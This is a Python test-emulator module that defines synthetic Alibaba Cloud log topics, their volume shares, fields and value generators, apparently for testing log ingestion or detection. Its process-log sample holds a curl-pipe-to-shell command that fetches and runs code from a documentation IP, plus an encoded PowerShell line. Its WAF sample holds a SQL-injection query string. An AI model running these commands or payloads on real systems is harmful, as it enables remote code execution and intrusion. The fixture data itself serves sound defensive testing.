"""The audit logs of Alibaba Cloud as data: topics, their share of the volume, their fields, and how values look.

Addresses are those reserved for documentation (RFC 5737) and private ones; names and ids are invented.
"""

from __future__ import annotations

import json
from dataclasses import dataclass

from tests.emulators.generator_rare import rare_topics
from tests.emulators.generator_values import (
    METHOD,
    OWNER,
    STATUS,
    USER,
    Value,
    actiontrail,
    agent,
    digits,
    hexadecimal,
    inside,
    kubernetes_user,
    number,
    object_name,
    outside,
    path,
    pick,
    sql,
)


@dataclass(frozen=True, slots=True)
class Topic:
    name: str
    logstore: str
    share: float  # of the mix, in percent by count
    fields: dict[str, Value]
    source: str = "log_service"


_COMMON: tuple[Topic, ...] = (
    Topic(
        "oss_access_log",
        "oss_log",
        35,
        {
            "bucket": pick("backup-prod", "static-assets", "audit-archive"),
            "object": object_name,
            "operation": pick("GetObject", "PutObject", "HeadObject", "ListObjects"),
            "http_method": METHOD,
            "http_status": STATUS,
            "error_code": pick("-", "-", "NoSuchKey"),
            "access_id": lambda random: f"LTAI5t{random.getrandbits(80):x}",
            "requester_id": digits(18),
            "client_ip": outside,
            "User-Agent": agent,
            "request_id": hexadecimal(24),
            "request_uri": path,
            "sign_type": pick("NotSign", "NormalSign", "UriSign"),
            "response_time": number(1, 900),
            "server_cost_time": number(1, 400),
            "content_length_in": "-",
            "content_length_out": number(0, 10**7),
            "sync_request": "-",
            "vpc_id": number(1, 10**9),
            "owner_id": OWNER,
        },
    ),
    Topic(
        "flow_log",
        "vpc_log",
        20,
        {
            "version": "1",
            "vswitch-id": pick("vsw-bp1a", "vsw-bp1b"),
            "vm-id": lambda random: f"i-bp1{random.getrandbits(64):x}",
            "vpc-id": "vpc-bp1",
            "account-id": OWNER,
            "eni-id": lambda random: f"eni-bp1{random.getrandbits(64):x}",
            "srcaddr": inside,
            "srcport": number(1, 65535),
            "dstaddr": inside,
            "dstport": number(1, 65535),
            "protocol": pick("6", "17", "1"),
            "direction": pick("in", "out"),
            "packets": number(1, 5000),
            "bytes": number(40, 10**7),
            "start": "1767225540",
            "end": "1767225600",
            "action": pick("ACCEPT", "ACCEPT", "REJECT"),
            "log-status": pick("OK", "OK", "NODATA"),
        },
    ),
    Topic(
        "slb_layer7_access_log",
        "slb_log",
        15,
        {
            "client_ip": outside,
            "client_port": number(1024, 65535),
            "host": "www.example.com",
            "http_host": "www.example.com",
            "http_user_agent": agent,
            "request_method": METHOD,
            "request_uri": path,
            "status": STATUS,
            "upstream_addr": lambda random: f"{inside(random)}:80, {inside(random)}:80",
            "request_id": hexadecimal(32),
            "upstream_status": pick("200", "502, 200", "-"),
            "request_time": pick("0.002", "0.118", "1.907"),
            "slbid": "lb-bp1",
            "slb_vport": "443",
            "vip_addr": "203.0.113.10",
            "ssl_protocol": "TLSv1.3",
            "tcpinfo_rtt": number(100, 90000),
        },
    ),
    Topic(
        "waf_access_log",
        "waf_log",
        10,
        {
            "matched_host": "*.example.com",
            "host": "shop.example.com",
            "real_client_ip": outside,
            "remote_addr": outside,
            "remote_port": number(1024, 65535),
            "request_method": METHOD,
            "request_path": path,
            "querystring": pick("u=1%27%20or%201=1", "q=%E6%B5%8B%E8%AF%95", "-"),
            "http_cookie": lambda random: f"sid={random.getrandbits(160):x}; theme=dark",
            "http_user_agent": agent,
            "status": STATUS,
            "upstream_status": "-",
            "request_time_msec": number(1, 3000),
            "request_traceid": hexadecimal(32),
            "final_action": pick("block", "", "captcha"),
            "final_plugin": pick("waf", "", "cc"),
            "final_rule_id": pick("113341", ""),
            "final_rule_type": pick("sqli", "xss", ""),
        },
    ),
    Topic(
        "rds_audit_log",
        "rds_log",
        8,
        {
            "instance_id": "rm-bp1x",
            "instance_name": "订单库",
            "db_type": "mysql",
            "db_version": "8.0",
            "db": "orders",
            "user": pick("app_rw", "root", "report"),
            "client_ip": inside,
            "sql": sql,
            "fail": pick("0", "0", "1"),
            "latency": number(50, 10**6),
            "check_rows": number(0, 10**5),
            "return_rows": number(0, 1000),
            "update_rows": number(0, 10),
            "thread_id": number(1, 9999),
            "origin_time": "1767225601000000",
        },
    ),
    Topic(
        "cloudfirewall_access_log",
        "cloudfirewall_log",
        6,
        {
            "log_type": "internet_log",
            "direction": pick("in", "out"),
            "src_ip": outside,
            "src_port": number(1024, 65535),
            "dst_ip": "203.0.113.10",
            "dst_port": pick("22", "443", "3389"),
            "ip_protocol": "TCP",
            "app_name": pick("SSH", "HTTPS", "Unknown"),
            "rule_result": pick("pass", "alert", "drop"),
            "ips_rule_name": pick("SSH暴力破解", "Log4j2远程代码执行", ""),
            "ips_rule_name_en": pick("SSH brute force", "Log4j2 RCE", ""),
            "vul_level": number(1, 3),
            "total_packet_bytes": number(40, 10**6),
            "start_time": "1767225590",
            "end_time": "1767225601",
            "aliuid": OWNER,
        },
    ),
    Topic(
        "sas-security-log",
        "sas_log",
        1,
        {
            "data_source": "aegis_suspicious_event",
            "level": pick("serious", "suspicious", "remind"),
            "name": pick("Webshell", "异常登录", "Mining"),
            "op": pick("new", "dealing"),
            "status": "1",
            "uuid": hexadecimal(32),
            "detail": lambda random: json.dumps({"loginSourceIp": outside(random), "path": "C:\\Windows\\Temp"}),
            "unique_info": hexadecimal(32),
        },
    ),
    Topic(
        "aegis-log-crack",
        "sas_log",
        1,
        {
            "uuid": hexadecimal(32),
            "ip": inside,
            "warn_ip": outside,
            "warn_port": "22",
            "warn_type": pick("SSHLOGIN", "RDPLOGIN"),
            "warn_user": pick("root", "administrator"),
            "warn_count": number(1, 500),
        },
    ),
    Topic(
        "aegis-log-process",
        "sas_log",
        1,
        {
            "uuid": hexadecimal(32),
            "cmdline": pick("/bin/sh -c 'curl http://203.0.113.7/x | sh'", 'powershell -enc "SQBFAFgA"'),
            "filename": pick("sh", "powershell.exe"),
            "filepath": pick("/bin/sh", "C:\\Windows\\System32\\powershell.exe"),
            "pid": number(1, 99999),
            "ppid": number(1, 99999),
            "username": USER,
        },
    ),
    Topic(
        "actiontrail_audit_event",
        "actiontrail_log",
        2,
        {"owner_id": OWNER, "event": actiontrail},
        "actiontrail_internal",
    ),
    Topic(
        "k8s_audit_log",
        "k8s_log",
        1,
        {
            "auditID": hexadecimal(32),
            "stage": "ResponseComplete",
            "verb": pick("get", "list", "create", "delete"),
            "requestURI": path,
            "user": kubernetes_user,
            "sourceIPs": lambda random: json.dumps([inside(random)]),
            "objectRef": '{"resource":"pods","namespace":"default","name":"web-0"}',
            "responseStatus": '{"metadata":{},"code":200}',
            "requestReceivedTimestamp": "2026-01-01T00:00:01.000000Z",
            "annotations": '{"authorization.k8s.io/decision":"allow","authorization.k8s.io/reason":""}',
            "requestObject": lambda random: json.dumps(
                {"spec": {"containers": [{"name": hexadecimal(8)(random)} for _ in range(30)]}}
            ),
        },
    ),
)

#: percent of the logs, each
_RARE_SHARE = 0.15

TOPICS = (*_COMMON, *(Topic(name, logstore, _RARE_SHARE, fields) for name, logstore, fields in rare_topics()))
BY_NAME = {topic.name: topic for topic in TOPICS}
